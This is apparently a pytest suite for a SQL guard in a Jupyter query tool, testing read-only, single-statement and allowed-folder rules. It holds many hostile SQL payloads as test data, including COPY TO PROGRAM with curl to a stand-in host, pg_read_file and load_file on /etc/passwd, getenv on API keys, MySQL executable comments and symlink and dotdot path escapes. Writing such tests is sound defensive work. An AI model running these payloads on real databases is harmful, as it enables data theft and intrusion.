"""The guard's specification: exactly one read-only query, no side effects, files only from the
allowed folders — and what it lets through still means the same once rendered.

Paths in the tables are relative to the test's working directory (a fresh tmp_path):
    allowed/            the one allowed folder
        sales.csv, more.csv
        trap/link.csv   -> ../../secret.csv (a symlink out of the allowed folder)
        outside_dir     -> ../outside       (a symlinked folder out of it)
        deep/inner/
        down            -> deep/inner       (a symlink deeper in: `down/../..` is `allowed` to
                                             the kernel but the working directory to a glob)
    secret.csv          outside the allowed folder
    outside/notes.csv   outside the allowed folder
`{root}` in a query stands for the allowed folder's absolute path.
"""
from __future__ import annotations

import os
import subprocess
import sys

import pytest
from sqlglot import exp

from querygpt_jupyter.errors import PermissionDenied, SqlSyntaxError
from querygpt_jupyter.sql.guard import (
    REFUSED_FUNCTION_PREFIXES,
    REFUSED_FUNCTIONS,
    GuardPolicy,
    check,
    render,
)

DIALECTS = ("duckdb", "sqlite", "postgres", "mysql")
SECRET = "sk-test-0123456789"


@pytest.fixture()
def root(tmp_path, monkeypatch):
    """The allowed folder, with the files and traps described in the module docstring."""
    allowed = tmp_path / "allowed"
    (allowed / "trap").mkdir(parents=True)
    (tmp_path / "outside").mkdir()
    (allowed / "sales.csv").write_text("region,amount\nnorth,10\nsouth,20\n")
    (allowed / "more.csv").write_text("region,amount\neast,5\n")
    (tmp_path / "secret.csv").write_text(f"api_key\n{SECRET}\n")
    (tmp_path / "outside" / "notes.csv").write_text(f"note\n{SECRET}\n")
    (allowed / "trap" / "link.csv").symlink_to(tmp_path / "secret.csv")
    (allowed / "outside_dir").symlink_to(tmp_path / "outside", target_is_directory=True)
    (allowed / "deep" / "inner").mkdir(parents=True)
    (allowed / "down").symlink_to(allowed / "deep" / "inner", target_is_directory=True)
    monkeypatch.chdir(tmp_path)
    return os.path.realpath(allowed)


@pytest.fixture()
def policy(root):
    """policy(dialect) -> a GuardPolicy allowing file reads under `root` only."""
    return lambda dialect="duckdb": GuardPolicy(dialect=dialect, allowed_paths=(root,))


def _sql(sql: str, root: str) -> str:
    return sql.replace("{root}", root)


# ---------------------------------------------------------------------------------------------
# Attacks: (dialect, sql, text the refusal must name)
# ---------------------------------------------------------------------------------------------

STATEMENT_ATTACKS = [
    pytest.param("duckdb", "", "empty", id="empty-string"),
    pytest.param("duckdb", "  -- just a comment\n", "empty", id="only-a-comment"),
    pytest.param("duckdb", ";", "empty", id="only-a-semicolon"),
    pytest.param("duckdb", "SELECT 1; SELECT 2", "2 statements", id="two-selects"),
    pytest.param("duckdb", "SELECT 1; DROP TABLE t", "2 statements", id="stacked-drop"),
    pytest.param("sqlite", "SELECT 1;DELETE FROM t;", "2 statements", id="stacked-delete-sqlite"),
    pytest.param("duckdb", "DELETE FROM t", "DELETE", id="delete"),
    pytest.param("duckdb", "dElEtE FROM t", "DELETE", id="delete-mixed-case"),
    pytest.param("duckdb", "/* harmless */ DELETE FROM t", "DELETE", id="comment-then-delete"),
    pytest.param("postgres", "UPDATE t SET a = 1", "UPDATE", id="update"),
    pytest.param("duckdb", "INSERT INTO t VALUES (1)", "INSERT", id="insert"),
    pytest.param("duckdb", "INSERT OR REPLACE INTO t VALUES (1)", "INSERT", id="insert-or-replace"),
    pytest.param("duckdb", "MERGE INTO t USING s ON t.a = s.a WHEN MATCHED THEN DELETE", "MERGE", id="merge"),
    pytest.param("sqlite", "REPLACE INTO t VALUES (1)", "REPLACE", id="replace-sqlite"),
    pytest.param("postgres", "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "DELETE", id="writable-cte-delete"),
    pytest.param("postgres", "WITH i AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM i", "INSERT", id="writable-cte-insert"),
    pytest.param("duckdb", "WITH u AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM u", "UPDATE", id="writable-cte-update-duckdb"),
    pytest.param("postgres", "WITH x AS (SELECT 1) DELETE FROM t", "DELETE", id="with-then-delete"),
    pytest.param("postgres", "SELECT * INTO t2 FROM t", "INTO", id="select-into-postgres"),
    pytest.param("duckdb", "SELECT * INTO t2 FROM t", "INTO", id="select-into-duckdb"),
    pytest.param("postgres", "SELECT * FROM t FOR UPDATE", "FOR UPDATE", id="select-for-update"),
    pytest.param("duckdb", "COPY t TO 'out.csv'", "COPY", id="copy-to"),
    pytest.param("duckdb", "COPY t FROM '/etc/passwd'", "COPY", id="copy-from"),
    pytest.param("postgres", "COPY (SELECT 1) TO PROGRAM 'curl evil.example'", "COPY", id="copy-to-program"),
    pytest.param("duckdb", "ATTACH 'other.db' AS o", "ATTACH", id="attach"),
    pytest.param("sqlite", "ATTACH DATABASE '/tmp/x.db' AS x", "ATTACH", id="attach-sqlite"),
    pytest.param("duckdb", "DETACH o", "DETACH", id="detach"),
    pytest.param("duckdb", "USE o", "USE", id="use"),
    pytest.param("duckdb", "INSTALL httpfs", "INSTALL", id="install-httpfs"),
    pytest.param("duckdb", "FORCE INSTALL httpfs", "FORCE", id="force-install"),
    pytest.param("duckdb", "LOAD httpfs", "LOAD", id="load-extension"),
    pytest.param("duckdb", "SET enable_external_access = true", "SET", id="set-setting"),
    pytest.param("duckdb", "SET VARIABLE x = 1", "SET", id="set-variable"),
    pytest.param("duckdb", "RESET threads", "RESET", id="reset"),
    pytest.param("postgres", "SET ROLE admin", "SET", id="set-role"),
    pytest.param("postgres", "RESET ROLE", "RESET", id="reset-role"),
    pytest.param("sqlite", "PRAGMA writable_schema = 1", "PRAGMA", id="pragma-writable-schema"),
    pytest.param("duckdb", "PRAGMA enable_profiling", "PRAGMA", id="pragma-duckdb"),
    pytest.param("duckdb", "CREATE TEMP TABLE x AS SELECT 1", "CREATE", id="create-temp-table"),
    pytest.param("duckdb", "CREATE OR REPLACE VIEW v AS SELECT 1", "CREATE", id="create-view"),
    pytest.param("duckdb", "CREATE MACRO m(a) AS a", "CREATE", id="create-macro"),
    pytest.param("duckdb", "CREATE SECRET s (TYPE s3, KEY_ID 'k', SECRET 's')", "CREATE", id="create-secret"),
    pytest.param("duckdb", "DROP TABLE t", "DROP", id="drop-table"),
    pytest.param("postgres", "ALTER TABLE t ADD COLUMN b INT", "ALTER", id="alter-table"),
    pytest.param("postgres", "TRUNCATE t", "TRUNCATE", id="truncate"),
    pytest.param("postgres", "COMMENT ON TABLE t IS 'x'", "COMMENT", id="comment-on"),
    pytest.param("postgres", "BEGIN", "BEGIN", id="begin"),
    pytest.param("duckdb", "START TRANSACTION", "START", id="start-transaction"),
    pytest.param("mysql", "COMMIT", "COMMIT", id="commit"),
    pytest.param("duckdb", "ROLLBACK", "ROLLBACK", id="rollback"),
    pytest.param("duckdb", "EXPORT DATABASE 'out'", "EXPORT", id="export-database"),
    pytest.param("duckdb", "IMPORT DATABASE 'in'", "IMPORT", id="import-database"),
    pytest.param("duckdb", "CALL pragma_version()", "CALL", id="call"),
    pytest.param("duckdb", "CHECKPOINT", "CHECKPOINT", id="checkpoint"),
    pytest.param("duckdb", "VACUUM", "VACUUM", id="vacuum"),
    pytest.param("postgres", "GRANT SELECT ON t TO mallory", "GRANT", id="grant"),
    pytest.param("postgres", "REVOKE SELECT ON t FROM alice", "REVOKE", id="revoke"),
    pytest.param("postgres", "DO $$ BEGIN PERFORM pg_sleep(10); END $$", "DO", id="do-block"),
    pytest.param("mysql", "LOAD DATA INFILE '/etc/passwd' INTO TABLE t", "LOAD", id="load-data-infile"),
    pytest.param("mysql", "SELECT * FROM t INTO OUTFILE '/tmp/x'", "OUTFILE", id="into-outfile"),
    pytest.param("mysql", "SELECT a FROM t INTO DUMPFILE '/tmp/x.so'", "DUMPFILE", id="into-dumpfile"),
    pytest.param("mysql", "DO SLEEP(5)", "DO", id="do-sleep-mysql"),
    pytest.param("duckdb", "EXPLAIN ANALYZE DELETE FROM t", "EXPLAIN", id="explain-analyze-delete"),
    pytest.param("postgres", "EXPLAIN SELECT 1", "EXPLAIN", id="explain"),
    pytest.param("mysql", "EXPLAIN SELECT 1", "EXPLAIN", id="explain-mysql"),
    pytest.param("duckdb", "DESCRIBE t", "DESCRIBE", id="describe"),
    pytest.param("duckdb", "SUMMARIZE t", "SUMMARIZE", id="summarize"),
    pytest.param("duckdb", "SELECT * FROM (DESCRIBE SELECT * FROM t)", "DESCRIBE", id="describe-in-subquery"),
    pytest.param("duckdb", "SELECT * FROM (SUMMARIZE t)", "SUMMARIZE", id="summarize-in-subquery"),
    pytest.param("duckdb", "SHOW TABLES", "SHOW", id="show"),
]

FUNCTION_ATTACKS = [
    pytest.param("duckdb", "SELECT * FROM query('DELETE FROM t')", "query()", id="duckdb-query"),
    pytest.param("duckdb", "SELECT * FROM query_table('secret.csv')", "query_table()", id="duckdb-query-table"),
    pytest.param("duckdb", "SELECT getenv('OPENAI_API_KEY')", "getenv()", id="duckdb-getenv"),
    pytest.param("duckdb", "SELECT upper(getenv('HOME'))", "getenv()", id="getenv-nested"),
    pytest.param("duckdb", "SELECT * FROM json_execute_serialized_sql('{}')", "json_execute_serialized_sql()", id="duckdb-execute-serialized"),
    pytest.param("duckdb", "SELECT json_serialize_plan('SELECT 1')", "json_serialize_plan()", id="duckdb-serialize-plan"),
    pytest.param("duckdb", "FROM histogram('secret.csv', api_key)", "histogram()", id="duckdb-histogram-reads-by-name"),
    pytest.param("duckdb", "SELECT sleep_ms(100000)", "sleep_ms()", id="duckdb-sleep"),
    pytest.param("duckdb", "SELECT * FROM t WHERE a IN (SELECT nextval('s'))", "nextval()", id="nextval-in-subquery"),
    pytest.param("duckdb", "SELECT * FROM duckdb_secrets()", "duckdb_secrets()", id="duckdb-secrets"),
    pytest.param("duckdb", "SELECT * FROM checkpoint()", "checkpoint()", id="duckdb-checkpoint-function"),
    pytest.param("duckdb", "SELECT * FROM enable_logging()", "enable_logging()", id="duckdb-enable-logging"),
    pytest.param("duckdb", "SELECT write_log('x')", "write_log()", id="duckdb-write-log"),
    pytest.param("postgres", "SELECT pg_read_file('/etc/passwd')", "pg_read_file()", id="pg-read-file"),
    pytest.param("postgres", "SELECT pg_catalog.pg_read_binary_file('/etc/passwd')", "pg_read_binary_file()", id="pg-read-binary-file-qualified"),
    pytest.param("postgres", "SELECT * FROM pg_ls_dir('/')", "pg_ls_dir()", id="pg-ls-dir"),
    pytest.param("postgres", "SELECT pg_stat_file('/etc/passwd')", "pg_stat_file()", id="pg-stat-file"),
    pytest.param("postgres", "SELECT lo_export(1234, '/tmp/x')", "lo_export()", id="pg-lo-export"),
    pytest.param("postgres", "SELECT lo_import('/etc/passwd')", "lo_import()", id="pg-lo-import"),
    pytest.param("postgres", "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", "dblink()", id="pg-dblink"),
    pytest.param("postgres", "SELECT dblink_exec('host=evil', 'DROP TABLE t')", "dblink_exec()", id="pg-dblink-exec"),
    pytest.param("postgres", "SELECT pg_sleep(10)", "pg_sleep()", id="pg-sleep"),
    pytest.param("postgres", "SELECT pg_sleep_for('1 hour')", "pg_sleep_for()", id="pg-sleep-for"),
    pytest.param("postgres", "SELECT nextval('orders_id_seq')", "nextval()", id="pg-nextval"),
    pytest.param("postgres", "SELECT setval('orders_id_seq', 1)", "setval()", id="pg-setval"),
    pytest.param("postgres", "SELECT set_config('role', 'admin', false)", "set_config()", id="pg-set-config"),
    pytest.param("postgres", "SELECT pg_terminate_backend(42)", "pg_terminate_backend()", id="pg-terminate-backend"),
    pytest.param("postgres", "SELECT pg_reload_conf()", "pg_reload_conf()", id="pg-reload-conf"),
    pytest.param("postgres", "SELECT query_to_xml('DELETE FROM t', true, true, '')", "query_to_xml()", id="pg-query-to-xml"),
    pytest.param("postgres", "SELECT pg_advisory_lock(1)", "pg_advisory_lock()", id="pg-advisory-lock"),
    pytest.param("postgres", "SELECT * FROM ts_stat('SELECT to_tsvector(secret) FROM t')", "ts_stat()", id="pg-ts-stat-runs-sql"),
    pytest.param("postgres", "SELECT ts_rewrite('a'::tsquery, 'SELECT t, s FROM aliases')", "ts_rewrite()", id="pg-ts-rewrite-runs-sql"),
    pytest.param("mysql", "SELECT @total := SUM(a) FROM t", "assigns a session variable", id="mysql-user-variable-assignment"),
    pytest.param("mysql", "SELECT a FROM t /*!50000 INTO OUTFILE '/tmp/x' */", "/*! … */", id="mysql-executable-comment"),
    pytest.param("mysql", "SELECT 1 /*M!100100 INTO OUTFILE '/tmp/x' */", "/*! … */", id="mariadb-executable-comment"),
    pytest.param("mysql", "SELECT load_file('/etc/passwd')", "load_file()", id="mysql-load-file"),
    pytest.param("mysql", "SELECT sleep(10)", "sleep()", id="mysql-sleep"),
    pytest.param("mysql", "SELECT * FROM t WHERE a = 1 AND SLEEP(10) = 0", "sleep()", id="mysql-sleep-in-where"),
    pytest.param("mysql", "SELECT benchmark(10000000, md5('x'))", "benchmark()", id="mysql-benchmark"),
    pytest.param("mysql", "SELECT get_lock('x', 10)", "get_lock()", id="mysql-get-lock"),
    pytest.param("mysql", "SELECT release_lock('x')", "release_lock()", id="mysql-release-lock"),
    pytest.param("sqlite", "SELECT load_extension('/tmp/evil.so')", "load_extension()", id="sqlite-load-extension"),
    pytest.param("sqlite", "SELECT readfile('/etc/passwd')", "readfile()", id="sqlite-readfile"),
    pytest.param("sqlite", "SELECT writefile('/tmp/x', 'y')", "writefile()", id="sqlite-writefile"),
    pytest.param("sqlite", "SELECT edit('x')", "edit()", id="sqlite-edit"),
    pytest.param("sqlite", "SELECT fts3_tokenizer('simple')", "fts3_tokenizer()", id="sqlite-fts3-tokenizer"),
]

FILE_ATTACKS = [
    pytest.param("duckdb", "SELECT * FROM read_csv('/etc/passwd')", "'/etc/passwd'", id="read-csv-etc-passwd"),
    pytest.param("duckdb", "SELECT * FROM read_csv('/proc/self/environ')", "'/proc/self/environ'", id="read-csv-proc-environ"),
    pytest.param("duckdb", "SELECT * FROM read_csv_auto('/etc/passwd')", "read_csv_auto", id="read-csv-auto"),
    pytest.param("duckdb", "SELECT * FROM read_text('/etc/passwd')", "read_text", id="read-text"),
    pytest.param("duckdb", "SELECT * FROM read_blob('/etc/passwd')", "read_blob", id="read-blob"),
    pytest.param("duckdb", "SELECT * FROM glob('/etc/*')", "glob", id="glob-etc"),
    pytest.param("duckdb", "SELECT * FROM sqlite_scan('/etc/x.db', 't')", "sqlite_scan", id="sqlite-scan"),
    pytest.param("duckdb", "SELECT * FROM parquet_metadata('/etc/x.parquet')", "parquet_metadata", id="parquet-metadata"),
    pytest.param("duckdb", "SELECT * FROM read_parquet('https://example.com/x.parquet')", "a URL", id="https-url"),
    pytest.param("duckdb", "SELECT * FROM 's3://bucket/x.parquet'", "a URL", id="s3-url-as-table"),
    pytest.param("duckdb", "SELECT * FROM read_csv('hf://datasets/x/y.csv')", "a URL", id="hf-url"),
    pytest.param("duckdb", "SELECT * FROM read_csv('file:///etc/passwd')", "a URL", id="file-url"),
    pytest.param("duckdb", "SELECT * FROM read_csv('a' || 'b')", "expression", id="concatenated-path"),
    pytest.param("duckdb", "SELECT * FROM read_csv(e'\\x2fetc/passwd')", "escape string", id="escape-string-path"),
    pytest.param("duckdb", "SELECT * FROM read_csv($$/etc/passwd$$)", "dollar-quoted", id="dollar-quoted-path"),
    pytest.param("duckdb", "SELECT * FROM read_csv(CAST('/etc/passwd' AS VARCHAR))", "expression", id="cast-path"),
    pytest.param("duckdb", "SELECT * FROM read_csv(CASE WHEN true THEN '/etc/passwd' END)", "expression", id="case-path"),
    pytest.param("duckdb", "SELECT * FROM read_csv(lower('/ETC/PASSWD'))", "expression", id="function-path"),
    pytest.param("duckdb", "SELECT * FROM read_csv(secret.csv)", "bare name (DuckDB reads an unknown name as a path)", id="column-reference-path"),
    pytest.param("duckdb", "SELECT * FROM t, LATERAL read_csv(t.path)", "column or bare name", id="lateral-column-path"),
    pytest.param("duckdb", "SELECT * FROM read_csv('~/x.csv')", "~", id="home-folder"),
    pytest.param("duckdb", "SELECT * FROM read_csv('allowed/../secret.csv')", "outside the allowed folders", id="dotdot-escape"),
    pytest.param("duckdb", "SELECT * FROM read_csv('{root}/../secret.csv')", "outside the allowed folders", id="dotdot-escape-absolute"),
    pytest.param("duckdb", "SELECT * FROM read_csv('allowed/trap/link.csv')", "secret.csv", id="symlink-escape"),
    pytest.param("duckdb", "SELECT * FROM read_csv('allowed/outside_dir/notes.csv')", "outside the allowed folders", id="symlinked-folder-escape"),
    pytest.param("duckdb", "SELECT * FROM read_csv('allowed/trap/*.csv')", "secret.csv", id="glob-matching-a-symlink"),
    pytest.param("duckdb", "SELECT * FROM read_csv('allowed/down/../../*.csv')", "outside the allowed folders", id="glob-after-dotdot-through-a-symlink"),
    pytest.param("duckdb", "SELECT * FROM read_csv('allowed/*/notes.csv')", "wildcards", id="glob-in-folder"),
    pytest.param("duckdb", "SELECT * FROM read_csv('allowed/**')", "wildcards", id="recursive-glob"),
    pytest.param("duckdb", "SELECT * FROM read_csv(['allowed/sales.csv', 'secret.csv'])", "'secret.csv'", id="list-with-one-outside"),
    pytest.param("duckdb", "SELECT * FROM 'secret.csv'", "'secret.csv'", id="string-as-table"),
    pytest.param("duckdb", 'SELECT * FROM "outside/notes.csv"', "outside/notes.csv", id="quoted-identifier-as-table"),
    pytest.param("duckdb", "SELECT * FROM secret.csv", "'secret.csv'", id="dotted-name-as-table"),
    pytest.param("duckdb", "SELECT * FROM t WHERE a IN (FROM '/etc/x.csv')", "/etc/x.csv", id="file-in-subquery"),
]

ATTACKS = STATEMENT_ATTACKS + FUNCTION_ATTACKS + FILE_ATTACKS


@pytest.mark.parametrize("dialect, sql, named", ATTACKS)
def test_refuses_attack_naming_what_was_refused(dialect, sql, named, policy, root):
    with pytest.raises(PermissionDenied) as refused:
        check(_sql(sql, root), policy(dialect))
    assert refused.value.code == "PERMISSION_DENIED"
    assert refused.value.message.startswith("Refused: ")
    assert named in refused.value.message


def test_refuses_every_file_read_when_no_folder_is_allowed(root):
    with pytest.raises(PermissionDenied, match="turned off"):
        check("SELECT * FROM read_csv('allowed/sales.csv')", GuardPolicy("duckdb"))


def test_refusal_message_is_one_sentence_naming_statement_and_rule(policy):
    with pytest.raises(PermissionDenied) as refused:
        check("DELETE FROM t", policy())
    assert refused.value.message == (
        "Refused: DELETE statements change data; only read-only queries run."
    )


def test_refusal_message_names_the_file_and_the_allowed_folders(policy, root):
    with pytest.raises(PermissionDenied) as refused:
        check("SELECT * FROM read_csv('/etc/passwd')", policy())
    assert refused.value.message == (
        f"Refused: read_csv reads '/etc/passwd', which is outside the allowed folders ({root})."
    )


def test_refuses_a_statement_that_starts_like_a_query_but_is_not_one(policy):
    with pytest.raises(PermissionDenied, match="not a query"):
        check("(1)", policy())


# ---------------------------------------------------------------------------------------------
# Legitimate queries that look dangerous: (dialect, sql)
# ---------------------------------------------------------------------------------------------

LEGIT = [
    pytest.param("duckdb", "SELECT 'DROP TABLE x' AS s", id="keyword-in-string"),
    pytest.param("duckdb", "SELECT 'read_csv(''/etc/passwd'')' AS s", id="function-in-string"),
    pytest.param("duckdb", 'SELECT "delete" FROM t', id="quoted-identifier-delete"),
    pytest.param("postgres", 'SELECT "select" FROM "from"', id="quoted-identifiers-select-from"),
    pytest.param("duckdb", 'SELECT "update" FROM t', id="column-named-update"),
    pytest.param("mysql", "SELECT `update`, `insert` FROM t", id="backticked-keywords-mysql"),
    pytest.param("duckdb", "SELECT 1 -- DELETE FROM t", id="keyword-in-line-comment"),
    pytest.param("duckdb", "SELECT 1 /* DROP TABLE t; */", id="keyword-and-semicolon-in-block-comment"),
    pytest.param("mysql", "SELECT 1 # DELETE", id="hash-comment-mysql"),
    pytest.param("duckdb", "SELECT * FROM t WHERE note LIKE '%insert%'", id="like-insert"),
    pytest.param("postgres", "SELECT * FROM t WHERE note LIKE '%update%'", id="like-update-postgres"),
    pytest.param("mysql", "SELECT * FROM t WHERE note = 'it''s; DROP TABLE t' LIMIT 5", id="semicolon-in-string"),
    pytest.param("duckdb", "WITH a AS (SELECT 1 AS x) SELECT x FROM a", id="cte"),
    pytest.param("duckdb", "WITH a AS (SELECT 1 AS x), b AS (WITH c AS (SELECT x FROM a) SELECT x FROM c) SELECT * FROM b", id="nested-cte"),
    pytest.param("postgres", "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 3) SELECT * FROM r", id="recursive-cte"),
    pytest.param("duckdb", "SELECT 1 UNION ALL SELECT 2", id="union"),
    pytest.param("postgres", "SELECT a FROM t INTERSECT SELECT a FROM u", id="intersect"),
    pytest.param("sqlite", "SELECT a FROM t EXCEPT SELECT a FROM u", id="except"),
    pytest.param("postgres", "(SELECT 1) UNION (SELECT 2)", id="parenthesised-union"),
    pytest.param("duckdb", "(SELECT 1)", id="parenthesised-select"),
    pytest.param("duckdb", "VALUES (1, 'a'), (2, 'b')", id="values"),
    pytest.param("duckdb", "SELECT a, sum(b) OVER (PARTITION BY a ORDER BY c) FROM t", id="window-function"),
    pytest.param("duckdb", "SELECT * FROM t WHERE a IN (SELECT a FROM u WHERE b > 1)", id="subquery"),
    pytest.param("duckdb", "SELECT CASE WHEN a > 1 THEN 'big' ELSE 'small' END FROM t", id="case"),
    pytest.param("duckdb", "SELECT CAST(a AS VARCHAR), a::DOUBLE FROM t", id="casts"),
    pytest.param("duckdb", "SELECT date_trunc('month', d), extract(year FROM d) FROM t", id="date-functions"),
    pytest.param("sqlite", "SELECT strftime('%Y', d) FROM t", id="strftime-sqlite"),
    pytest.param("mysql", "SELECT DATE_FORMAT(d, '%Y-%m') FROM t", id="date-format-mysql"),
    pytest.param("postgres", "SELECT current_setting('TimeZone')", id="current-setting-postgres"),
    pytest.param("duckdb", "SELECT a FROM t QUALIFY row_number() OVER (PARTITION BY a ORDER BY b) = 1", id="qualify"),
    pytest.param("duckdb", "SELECT 1;", id="trailing-semicolon"),
    pytest.param("duckdb", "SELECT 1 ; -- done\n", id="trailing-semicolon-and-comment"),
    pytest.param("duckdb", "FROM t SELECT a", id="from-first"),
    pytest.param("duckdb", "PIVOT t ON a USING sum(b)", id="pivot-statement"),
    pytest.param("duckdb", "SELECT replace(note, 'x', 'y') FROM t", id="replace-function"),
    pytest.param("duckdb", "SELECT * FROM range(10)", id="range-table-function"),
    pytest.param("duckdb", "SELECT * FROM duckdb_tables()", id="duckdb-catalog-function"),
    pytest.param("duckdb", "SELECT * FROM information_schema.tables", id="information-schema"),
    pytest.param("duckdb", "SELECT * FROM main.t", id="schema-qualified"),
    pytest.param("duckdb", "SELECT list_transform([1, 2], x -> x + 1)", id="lambda"),
    pytest.param("duckdb", "SELECT * FROM read_csv('allowed/sales.csv')", id="read-csv-under-root"),
    pytest.param("duckdb", "SELECT * FROM read_csv_auto('{root}/sales.csv', header = true)", id="absolute-path-under-root"),
    pytest.param("duckdb", "SELECT * FROM read_csv('allowed/*.csv')", id="glob-under-root"),
    pytest.param("duckdb", "SELECT * FROM read_csv(['allowed/sales.csv', 'allowed/more.csv'])", id="list-of-paths-under-root"),
    pytest.param("duckdb", "SELECT * FROM 'allowed/sales.csv'", id="string-as-table-under-root"),
    pytest.param("duckdb", "SELECT * FROM read_parquet('allowed/missing.parquet')", id="missing-file-under-root"),
    pytest.param("duckdb", "SELECT * FROM read_csv('allowed/down/../../allowed/sales.csv')", id="dotdot-staying-under-root"),
]


@pytest.mark.parametrize("dialect, sql", LEGIT)
def test_allows_legitimate_query(dialect, sql, policy, root):
    query = check(_sql(sql, root), policy(dialect))
    rendered = render(query, dialect)
    assert check(rendered, policy(dialect)) == query  # what runs passes the guard by itself


# ---------------------------------------------------------------------------------------------
# Rendering: comments and hints never reach the engine
# ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "sql",
    [
        pytest.param("SELECT * FROM t /*!50000 INTO OUTFILE '/tmp/x' */", id="into-outfile"),
        pytest.param("SELECT a FROM t WHERE a = 1 /*! AND SLEEP(10) */", id="sleep"),
        pytest.param("SELECT /*!50000 load_file('/etc/passwd'), */ 1", id="load-file"),
    ],
)
def test_mysql_executable_comment_is_not_rendered(sql, policy):
    """MySQL runs /*! … */ as code; the guard may pass the query, but never that comment."""
    try:
        query = check(sql, policy("mysql"))
    except PermissionDenied:
        return
    assert "/*" not in render(query, "mysql")


def test_mysql_comments_that_are_not_code_are_allowed(policy):
    query = check("SELECT a /* the total */ FROM t -- !not code", policy("mysql"))
    assert render(query, "mysql") == "SELECT a FROM t"


def test_render_drops_optimizer_hints(policy):
    query = check("SELECT /*+ BKA(t) */ a FROM t", policy("mysql"))
    assert render(query, "mysql") == "SELECT a FROM t"


def test_render_drops_a_hint_whose_string_would_close_it():
    query = exp.select("a").from_("t")
    smuggled = exp.Literal.string("*/ * FROM t INTO OUTFILE '/tmp/x' -- ")
    query.set("hint", exp.Hint(expressions=[exp.Anonymous(this="BKA", expressions=[smuggled])]))
    assert "/*" not in render(query, "mysql")


# ---------------------------------------------------------------------------------------------
# Syntax errors
# ---------------------------------------------------------------------------------------------


def test_syntax_error_names_line_and_column(policy):
    with pytest.raises(SqlSyntaxError) as failed:
        check("SELECT *\nFROM t\nWHERE", policy())
    assert failed.value.code == "SQL_SYNTAX_ERROR"
    assert "line 3, column 5" in failed.value.message


def test_unterminated_string_is_a_syntax_error(policy):
    with pytest.raises(SqlSyntaxError):
        check("SELECT 'unterminated", policy())


# ---------------------------------------------------------------------------------------------
# The deny list holds for every dialect, whatever sqlglot turns a name into
# ---------------------------------------------------------------------------------------------

# sqlglot reads these only as statements (INSTALL x, LOAD x), never as a call it would render.
_STATEMENT_ONLY = {"install", "load"}
_PREFIX_EXAMPLES = {prefix: f"{prefix}example" for prefix in REFUSED_FUNCTION_PREFIXES}


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize(
    "name", sorted(set(REFUSED_FUNCTIONS) - _STATEMENT_ONLY) + sorted(_PREFIX_EXAMPLES.values())
)
def test_refused_function_is_recognised_in_every_dialect(name, dialect):
    for sql in (f"SELECT {name}('x')", f"SELECT * FROM {name}('x')", f"SELECT {name.upper()}(1, 2)"):
        with pytest.raises(PermissionDenied, match=rf"{name}\(\)"):
            check(sql, GuardPolicy(dialect))


# ---------------------------------------------------------------------------------------------
# For real, on DuckDB: read_only=True alone lets these through; rendering keeps meaning
# ---------------------------------------------------------------------------------------------


@pytest.fixture()
def shop(tmp_path, root):
    """A read-only connection to a DuckDB file holding table t."""
    import duckdb
    path = str(tmp_path / "shop.duckdb")
    con = duckdb.connect(path)
    con.execute('CREATE TABLE t (id INTEGER, a INTEGER, b INTEGER, note VARCHAR, "delete" VARCHAR, "update" INTEGER)')
    con.execute(
        "INSERT INTO t VALUES (1, 1, 10, 'insert me', 'x', 100), (2, 1, 20, 'keep', 'y', 200), "
        "(3, 2, 30, 'please INSERT', 'z', 300)"
    )
    con.close()
    con = duckdb.connect(path, read_only=True)
    yield con
    con.close()


REAL_ATTACKS = [
    pytest.param("CREATE TEMP TABLE x AS SELECT 1", None, id="create-temp-table"),
    pytest.param("SELECT * FROM read_csv('sec' || 'ret.csv')", SECRET, id="concatenated-path"),
    pytest.param("SELECT * FROM read_csv(e'\\x73ecret.csv')", SECRET, id="escape-string-path"),
    pytest.param("SELECT * FROM read_csv('allowed/../secret.csv')", SECRET, id="dotdot-escape"),
    pytest.param("SELECT * FROM read_csv('allowed/trap/link.csv')", SECRET, id="symlink-escape"),
    pytest.param("SELECT * FROM read_csv('allowed/trap/*.csv')", SECRET, id="glob-matching-a-symlink"),
    pytest.param("SELECT * FROM read_csv('allowed/down/../../*.csv')", SECRET, id="glob-after-dotdot-through-a-symlink"),
    pytest.param("SELECT * FROM secret.csv", SECRET, id="dotted-name-as-table"),
    pytest.param("SELECT * FROM read_csv(secret.csv)", SECRET, id="column-reference-path"),
    pytest.param("FROM histogram('secret.csv', api_key)", SECRET, id="histogram-reads-by-name"),
    pytest.param("SELECT * FROM query('SELECT * FROM ''secret.csv''')", SECRET, id="query-runs-a-string"),
    pytest.param("SELECT * FROM (DESCRIBE SELECT * FROM 'secret.csv')", "api_key", id="describe-runs-its-query"),
]


@pytest.mark.parametrize("sql, leaked", REAL_ATTACKS)
def test_attack_works_on_a_read_only_duckdb_connection_but_the_guard_refuses_it(shop, sql, leaked, policy):
    rows = shop.sql(sql)
    if leaked is not None:
        assert leaked in str(rows.fetchall())
    with pytest.raises(PermissionDenied):
        check(sql, policy())


EXECUTED = [
    pytest.param("SELECT 'DROP TABLE x' AS s", [("DROP TABLE x",)], id="keyword-in-string"),
    pytest.param('SELECT "delete", "update" FROM t ORDER BY id -- DELETE', [("x", 100), ("y", 200), ("z", 300)], id="keyword-columns-and-comment"),
    pytest.param("SELECT id FROM t WHERE note ILIKE '%insert%' ORDER BY id", [(1,), (3,)], id="like"),
    pytest.param("WITH s AS (SELECT a, sum(b) AS total FROM t GROUP BY a) SELECT * FROM s ORDER BY a", [(1, 30), (2, 30)], id="cte-aggregate"),
    pytest.param("SELECT id FROM t QUALIFY row_number() OVER (PARTITION BY a ORDER BY b DESC) = 1 ORDER BY id", [(2,), (3,)], id="qualify"),
    pytest.param("SELECT region, amount FROM 'allowed/sales.csv' ORDER BY region", [("north", 10), ("south", 20)], id="string-as-table"),
    pytest.param("SELECT count(*) FROM read_csv('allowed/*.csv')", [(3,)], id="glob-under-root"),
    pytest.param("PIVOT (SELECT a, b FROM t) ON a USING sum(b)", [(30, 30)], id="pivot"),
    pytest.param("VALUES (1, 'a'), (2, 'b');", [(1, "a"), (2, "b")], id="values"),
]


@pytest.mark.parametrize("sql, rows", EXECUTED)
def test_rendered_query_returns_the_same_rows_as_the_original(shop, sql, rows, policy):
    rendered = render(check(sql, policy()), "duckdb")
    assert shop.sql(rendered).fetchall() == rows
    assert shop.sql(sql).fetchall() == rows


